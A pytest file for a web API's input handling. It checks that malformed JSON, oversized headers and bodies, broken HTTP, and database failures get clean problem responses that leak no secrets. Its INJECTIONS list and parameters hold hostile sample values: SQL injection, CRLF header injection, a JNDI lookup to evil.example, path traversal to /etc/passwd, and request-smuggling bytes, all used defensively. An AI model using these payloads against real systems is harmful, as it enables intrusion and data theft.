"""What comes from outside and is wrong: refused clearly, and the process lives."""

import asyncio
import json
from typing import Any

import httpx
import pytest
from litestar.exceptions import HTTPException
from structlog.testing import capture_logs
from support.api import V1, Api
from support.callers import make_callers
from support.house import PASSWORD

from core.errors import StorageUnavailable

JSON = {"Content-Type": "application/json"}
REGISTER = V1 + "/auth/register"


@pytest.fixture(autouse=True)
async def lives_on(api: Api) -> Any:
    yield
    assert (await api.client.get("/healthz")).status_code == 200


def assert_problem(answer: httpx.Response, status: int, code: str) -> dict[str, Any]:
    assert answer.status_code == status, answer.text
    assert answer.headers["content-type"] == "application/problem+json"
    problem: dict[str, Any] = answer.json()
    assert (problem["status"], problem["code"]) == (status, code)
    assert problem["type"] == f"urn:pulseboard:problem:{code}"
    assert problem["title"]
    assert problem["detail"].endswith(".")
    assert problem["request_id"] == answer.headers["x-request-id"]
    return problem


@pytest.mark.parametrize(
    "body",
    [
        b'{"email":"\xff@example.com","password":"%s"}' % PASSWORD.encode(),
        b'{"email":"\\ud800","password":"x"}',
        b'{"email":',
        b"\x00",
        b"[" * 60_000,
    ],
    ids=["not utf-8", "half a surrogate pair", "broken", "nul", "deep"],
)
async def test_a_body_that_is_no_json(api: Api, body: bytes) -> None:
    answer = await api.client.post(REGISTER, content=body, headers=JSON)
    assert answer.status_code == 400
    assert answer.json()["code"] in {"invalid_json", "invalid_input"}
    assert_problem(answer, 400, answer.json()["code"])


async def test_an_unknown_field(api: Api) -> None:
    body = {"email": "ada@example.com", "password": PASSWORD, "role": "operator"}
    problem = assert_problem(await api.call("POST", "/auth/register", body), 400, "invalid_input")
    assert problem["field"] == "role"
    assert api.house.database.users == {}


async def test_a_field_that_comes_twice(api: Api) -> None:
    body = b'{"email":"a@example.com","email":"b@example.com","password":"%s"}' % PASSWORD.encode()
    answer = await api.client.post(REGISTER, content=body, headers=JSON)
    assert assert_problem(answer, 400, "invalid_input")["field"] == "email"


async def test_a_field_of_another_type(api: Api) -> None:
    answer = await api.call("POST", "/auth/register", {"email": 1, "password": PASSWORD})
    assert assert_problem(answer, 400, "invalid_input")["field"] == "email"


async def test_a_missing_body(api: Api) -> None:
    assert_problem(await api.client.post(REGISTER), 400, "invalid_input")


async def test_an_oversized_body_that_says_so(api: Api) -> None:
    answer = await api.client.post(REGISTER, content=b"x" * 70_000, headers=JSON)
    assert_problem(answer, 413, "body_too_large")


async def test_an_oversized_body_that_does_not_say_so(api: Api) -> None:
    async def endless() -> Any:
        for _ in range(40):
            yield b"x" * 4096

    answer = await api.client.post(REGISTER, content=endless(), headers=JSON)
    assert_problem(answer, 413, "body_too_large")


@pytest.mark.parametrize("kind", ["text/plain", "application/x-www-form-urlencoded", "", "application/jsonx"])
async def test_another_content_type(api: Api, kind: str) -> None:
    answer = await api.client.post(REGISTER, content=b"{}", headers={"Content-Type": kind})
    assert_problem(answer, 415, "unsupported_media_type")


@pytest.mark.parametrize(
    "path", ["/api", "/api/v1", "/api/v2/me", "/api/v1/nope", "/api/v1/openapi.json/x", "/assets/gone.js"]
)
async def test_an_address_where_nothing_is(api: Api, path: str) -> None:
    assert_problem(await api.client.get(path), 404, "not_found")


@pytest.mark.parametrize(("method", "path"), [("PUT", "/api/v1/me"), ("POST", "/healthz"), ("PUT", "/")])
async def test_a_method_that_is_not_taken(api: Api, method: str, path: str) -> None:
    answer = await api.client.request(method, path)
    assert_problem(answer, 405, "method_not_allowed")
    assert "GET" in answer.headers["allow"]


async def test_a_header_of_a_megabyte(api: Api) -> None:
    request = b"GET /healthz HTTP/1.1\r\nHost: x\r\nX: " + b"a" * (1 << 20) + b"\r\n\r\n"
    head, _, body = (await api.raw(request)).partition(b"\r\n\r\n")
    assert head.startswith(b"HTTP/1.1 431 ")
    assert b"application/problem+json" in head
    assert b"headers_too_large" in body


async def test_a_megabyte_of_small_headers(api: Api) -> None:
    request = b"GET /healthz HTTP/1.1\r\nHost: x\r\n" + b"X: a\r\n" * (1 << 18)
    assert (await api.raw(request)).startswith(b"HTTP/1.1 431 ")


async def test_an_address_of_a_megabyte(api: Api) -> None:
    request = b"GET /" + b"a" * (1 << 20) + b" HTTP/1.1\r\nHost: x\r\n\r\n"
    assert (await api.raw(request)).startswith(b"HTTP/1.1 431 ")


async def test_a_header_over_the_limit_that_comes_in_one_piece(api: Api) -> None:
    answer = await api.client.get("/healthz", headers={"X": "a" * 40_000})
    assert_problem(answer, 431, "headers_too_large")


async def test_many_requests_on_one_connection_are_no_large_header(api: Api) -> None:
    request = b"GET /healthz HTTP/1.1\r\nHost: x\r\nX: " + b"a" * 20_000 + b"\r\n\r\n"
    last = b"GET /healthz HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n"
    answer = await api.raw(request * 10 + last)
    assert answer.count(b"HTTP/1.1 200 OK") == 11


@pytest.mark.parametrize(
    "request_bytes",
    [
        b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc",
        b"NONSENSE\r\n\r\n",
        b"\x00" * (1 << 20),
        b"GET / HTTP/9.9\r\n\r\n",
        b"GET / HTTP/1.1\r\nHost: x\r\nContent-Length: -1\r\n\r\n",
        b"GET / HTTP/1.1\r\nHost: x\r\nContent-Length: 1\r\nTransfer-Encoding: chunked\r\n\r\n",
        b"GET / HTTP/1.1\r\nHost: x\r\nX: a\x00b\r\n\r\n",
    ],
    ids=["tls", "nonsense", "a megabyte of nonsense", "version", "negative length", "two lengths", "nul"],
)
async def test_what_is_no_http(api: Api, request_bytes: bytes) -> None:
    head, _, body = (await api.raw(request_bytes)).partition(b"\r\n\r\n")
    assert head.startswith(b"HTTP/1.1 400 Bad Request\r\n")
    assert b"application/problem+json" in head
    assert b'"code":"bad_request"' in body


@pytest.mark.parametrize("host", ["", "a b", "x;y", "x/../y"])
async def test_a_host_that_is_none_breaks_nothing(api: Api, host: str) -> None:
    for path in ("/", "/api/v1/client"):
        answer = await api.client.get(path, headers={"Host": host})
        assert answer.status_code in (200, 400)
        assert host not in answer.headers["content-security-policy"] or host == ""


async def test_a_client_that_leaves_in_the_middle_of_its_body(api: Api) -> None:
    with capture_logs() as logs:
        _, writer = await asyncio.open_connection(api.host, api.port)
        writer.write(b"POST /api/v1/auth/register HTTP/1.1\r\nHost: x\r\n")
        writer.write(b"Content-Type: application/json\r\nContent-Length: 100\r\n\r\n{")
        await writer.drain()
        writer.close()
        await writer.wait_closed()
        while not any(line.get("path") == REGISTER for line in logs):
            await api.client.get("/healthz")
    assert [line["event"] for line in logs if line["log_level"] == "error"] == []
    assert next(line["status"] for line in logs if line.get("path") == REGISTER) == 400


async def test_a_database_out_of_reach_is_a_503_and_passes(api: Api, monkeypatch: pytest.MonkeyPatch) -> None:
    session = await api.sign_in()

    async def down(*_: object) -> None:
        raise StorageUnavailable("postgresql://user:hunter2@10.0.0.1 refused the connection")

    with monkeypatch.context() as broken:
        broken.setattr(api.house.user_store, "by_id", down)
        answer = await api.call("GET", "/me", token=session["access_token"])
        assert_problem(answer, 503, "unavailable")
        assert answer.headers["retry-after"] == "2"
        assert "hunter2" not in answer.text
    assert (await api.call("GET", "/me", token=session["access_token"])).status_code == 200


async def test_an_unforeseen_error_tells_the_client_nothing_and_the_log_everything(
    api: Api, monkeypatch: pytest.MonkeyPatch
) -> None:
    session = await api.sign_in()

    async def broken(*_: object) -> None:
        raise ZeroDivisionError("hunter2")

    monkeypatch.setattr(api.house.user_store, "by_id", broken)
    with capture_logs() as logs:
        answer = await api.call("GET", "/me", token=session["access_token"])
    assert_problem(answer, 500, "internal")
    assert "hunter2" not in answer.text
    (line,) = [line for line in logs if line["log_level"] == "error"]
    assert isinstance(line["exc_info"], ZeroDivisionError)
    assert not isinstance(line["exc_info"], HTTPException)


async def test_too_many_who_sign_in_are_told_to_wait(api: Api, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(api.house.passwords, "_limit", 0)
    answer = await api.call("POST", "/auth/login", {"email": "ada@example.com", "password": PASSWORD})
    assert_problem(answer, 429, "busy")
    assert answer.headers["retry-after"] == "1"


async def test_a_websocket_handshake_at_the_wrong_door_is_an_ordinary_request(api: Api) -> None:
    request = (
        b"GET /api/v1/ws HTTP/1.1\r\nHost: x\r\nConnection: Upgrade, close\r\nUpgrade: websocket\r\n"
        b"Sec-WebSocket-Version: 13\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n\r\n"
    )
    assert (await api.raw(request)).startswith(b"HTTP/1.1 404 ")


INJECTIONS = [
    "' OR '1'='1",
    "'; DROP TABLE account; --",
    "%' OR email LIKE '%",
    "\\'; SELECT pg_sleep(10); --",
    "x\r\nSet-Cookie: evil=1",
    "x\nBcc: everybody@example.com",
    "${jndi:ldap://evil.example}",
    "{{7*7}}",
    "../../../../etc/passwd",
    "\u202egnp.exe",
    "\ufeff",
    "x\u0000y",
]


@pytest.mark.parametrize("text", INJECTIONS)
async def test_what_is_code_elsewhere_is_text_here(api: Api, text: str) -> None:
    session = await api.sign_in()
    token = session["access_token"]
    callers = await make_callers(api.house)
    found = await api.client.get(
        f"{V1}/admin/users",
        params={"q": text},
        headers={"Authorization": f"Bearer {callers.token('support')}"},
    )
    assert found.status_code in {200, 400}
    assert found.json().get("items", []) == []
    for body in ({"display_name": text}, {"locale": text}, {"time_zone": text}):
        answer = await api.call("PATCH", "/me", body, token=token)
        assert answer.status_code in {200, 400}, answer.text
        assert "evil" not in answer.headers
        assert "set-cookie" not in answer.headers
    for path in ("/nodes", "/auth/sessions"):
        answer = await api.client.get(
            V1 + path, params={"cursor": text}, headers={"Authorization": f"Bearer {token}"}
        )
        assert_problem(answer, 400, "invalid_input")
    login = await api.call("POST", "/auth/login", {"email": text, "password": text})
    assert login.status_code in {400, 401}
    assert (await api.call("GET", "/me", token=token)).status_code == 200


@pytest.mark.parametrize(
    "header",
    [
        b"X-Request-Id: good-id-1\rEvil: 1",
        b"X-Request-Id: good-id-1\x00",
        b"X-Request-Id : good-id-1",
        b" X-Request-Id: good-id-1",
        b"X-Forwarded-For: 203.0.113.9\n Evil: 1",
    ],
)
async def test_a_header_that_tries_to_be_two_brings_none_into_the_answer(api: Api, header: bytes) -> None:
    answer = await api.raw(
        b"GET /api/v1/client HTTP/1.1\r\nHost: x\r\n" + header + b"\r\nConnection: close\r\n\r\n"
    )
    assert b"\nevil" not in answer.lower()
    assert answer.startswith((b"HTTP/1.1 200 ", b"HTTP/1.1 400 "))


@pytest.mark.parametrize(
    ("method", "path", "body"),
    [
        ("POST", "/auth/login", []),
        ("POST", "/auth/login", None),
        ("POST", "/auth/login", "text"),
        ("POST", "/auth/login", {"email": ["a"], "password": {}}),
        ("POST", "/auth/login", {"email": None, "password": None}),
        ("POST", "/auth/login", {"email": "a@example.com"}),
        ("POST", "/auth/login", {"email": "a@example.com", "password": "x", "cookie": "yes"}),
        ("POST", "/auth/login", {"email": "a@example.com", "password": "x", "cookie": 1}),
        ("POST", "/nodes/token", {"node_id": "x", "time_ms": 1, "signature": ""}),
        ("POST", "/nodes/token", {"node_id": None, "time_ms": 1, "signature": ""}),
        ("POST", "/nodes/token", {"node_id": "0" * 32, "time_ms": 1e400, "signature": ""}),
        ("POST", "/nodes/token", {"node_id": "0" * 32, "time_ms": "1", "signature": ""}),
        ("POST", "/nodes/token", {"node_id": "0" * 32, "time_ms": 1, "signature": "not base64!"}),
        ("PATCH", "/me", {"display_name": 1}),
        ("PATCH", "/me", {"role": "operator"}),
        ("PATCH", "/me", {"email": "new@example.com"}),
        ("PUT", "/me/password", {"current": PASSWORD, "new": [PASSWORD]}),
    ],
)
async def test_a_body_of_another_shape_names_what_is_wrong(
    api: Api, method: str, path: str, body: Any
) -> None:
    token = (await api.sign_in())["access_token"]
    content = json.dumps(body).replace("Infinity", "1e400").encode()
    answer = await api.client.request(
        method, V1 + path, content=content, headers={**JSON, "Authorization": f"Bearer {token}"}
    )
    assert answer.status_code == 400, answer.text
    assert_problem(answer, 400, answer.json()["code"])
    assert answer.json()["code"] in {"invalid_input", "invalid_json"}


@pytest.mark.parametrize("limit", ["0", "-1", "201", "1e9", "x", "", "9" * 400, "1 OR 1=1", "null"])
async def test_a_limit_that_is_none(api: Api, limit: str) -> None:
    token = (await api.sign_in())["access_token"]
    answer = await api.client.get(
        f"{V1}/nodes", params={"limit": limit}, headers={"Authorization": f"Bearer {token}"}
    )
    assert assert_problem(answer, 400, "invalid_input")["field"] == "limit"
